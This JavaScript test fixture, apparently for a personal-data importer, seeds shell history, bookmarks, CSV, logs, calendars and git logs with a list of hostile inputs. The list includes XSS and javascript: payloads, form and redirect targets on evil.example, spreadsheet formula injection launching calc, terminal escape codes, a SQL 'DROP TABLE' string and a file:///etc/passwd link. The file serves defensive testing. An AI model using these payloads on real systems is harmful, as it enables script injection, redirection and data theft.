// Texts that want to be more than texts, and a home into which the importers have brought them, in every field of every
// source that takes what strangers write.

import { Home, NOW } from './kit.mjs';
import { inputs } from './demo.mjs';

const RUN = 'window.__pwned=1';

/** What a browser must not run, a spreadsheet not compute, a terminal not obey, and a layout not break at. */
export const HOSTILE = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style></title></textarea></noscript><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="https://evil.example/"><form action="https://evil.example/"><button>x`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '{{7*7}} {{{x}}} ${7*7} <%= 7*7 %> {{put page}} {% include "x" %}',
  '=HYPERLINK("https://evil.example/","x")',
  '+1+cmd|\' /C calc\'!A0',
  '-1+1',
  '@SUM(1,1)',
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b31m',
  'exe\u202egpj.exe\u2066\u200b\u2029end',
  'a NUL \u0000 within',
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `<!--${'>'}--><script>${RUN}</script>`,
  "'; DROP TABLE events; --",
  'x'.repeat(600),
  '\u0e01\u0e49'.repeat(40) + '\u0301'.repeat(60),
];

/** Addresses that must not become links. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  `https://e.example/?"><script>${RUN}</script>`,
  `https://e.example/'onclick='${RUN}`,
  `https://user:secret@evil.example/${'y'.repeat(500)}`,
  '//evil.example/x',
];

const escaped = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

/** The files, by name: what they hold and what reads them. The names are hostile too, as far as a name can be. */
function files() {
  const second = (i) => NOW.getTime() / 1000 - 86_400 + i * 60;
  const iso = (i) => new Date(second(i) * 1000).toISOString();
  const all = [...HOSTILE, ...ADDRESSES];
  const clean = (text) => text.replaceAll(/[\0\n\r]/g, '');
  return [
    ['zsh.history', `<b onclick="${RUN}">\u202e.history`, HOSTILE.map((text, i) => `: ${second(i)}:0;${text}\n`).join('')],
    ['bookmarks.html', '=1+1.html', '<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n' + all.map((text, i) =>
      `<DT><A HREF="${escaped(ADDRESSES[i % ADDRESSES.length])}" ADD_DATE="${second(i)}" TAGS="${escaped(text)}">${escaped(text)}</A>\n`).join('')],
    ['jsonl', '"\'><img src=x onerror=__pwned=1>.jsonl', all.map((text, i) => `${JSON.stringify({
      date: iso(i), title: text, text, url: ADDRESSES[i % ADDRESSES.length], referrer: text, agent: text, host: text, user: text,
      tags: [text, 'plain'], [text]: text, more: { [text]: [text] } })}\n`).join('')],
    ['csv', '{{x}}.csv', `Date,Title,Link,Tags,User,Host\n${all.map((text, i) =>
      [iso(i), text, ADDRESSES[i % ADDRESSES.length], text, text, text].map(quoted).join(',')).join('\n')}\n`],
    ['log.http', `${'access'.repeat(30)}.log`, all.map((text, i) => {
      const word = clean(text).replaceAll('"', '\\"');
      const when = '12/Mar/2026:17:' + `${i % 60}`.padStart(2, '0') + ':00 +0000';
      return `192.0.2.1 - ${clean(text).replaceAll(/\s/g, '_')} [${when}] "GET /${word} HTTP/1.1" 200 1 "${word}" "${word}"\n`;
    }).join('')],
    ['log.shell', 'usrlog', all.map((text, i) => {
      const [word, when] = [clean(text), `${iso(i).slice(0, 19)}+0000`];
      return `#  ${when}\t#${word.slice(0, 20)}\t\t/home/${word}\t${when}\t${word}\t${word}\t$$\t${word} \n`;
    }).join('')],
    ['ical', 'calendar.ics', ['BEGIN:VCALENDAR', ...all.flatMap((text, i) => [
      'BEGIN:VEVENT', `UID:${i}`, `DTSTART:${iso(i).replaceAll(/[-:]|\.\d+/g, '')}`, `SUMMARY:${clean(text)}`,
      `LOCATION:${clean(text)}`, `URL:${clean(text)}`, 'END:VEVENT',
    ]), 'END:VCALENDAR', ''].join('\r\n')],
    ['git.log', 'git', all.map((text, i) => {
      const [word, name] = [clean(text), `${i}`.padStart(40, 'a')];
      return `commit ${name}\nAuthor: ${word} <x@e.example>\nDate:   ${iso(i).slice(0, 19)}Z\n\n    ${word}\n\n`;
    }).join('')],
    ['syslog', 'syslog', all.map((text, i) => {
      const host = clean(text).replaceAll(/\s/g, '_').slice(0, 200);
      return `<13>1 ${iso(i)} ${host} app 1 - - ${clean(text)}\n`;
    }).join('')],
  ];
}

/** The home, loaded. */
export function hostile() {
  const home = new Home();
  const all = files();
  // A label is one's own, but may be pasted from anywhere.
  home.config(inputs(all.map(([source, name], i) => [source, name, HOSTILE[i].replaceAll('\u0000', '')])));
  for (const [, name, content] of all) home.write(name, content);
  return home.load();
}
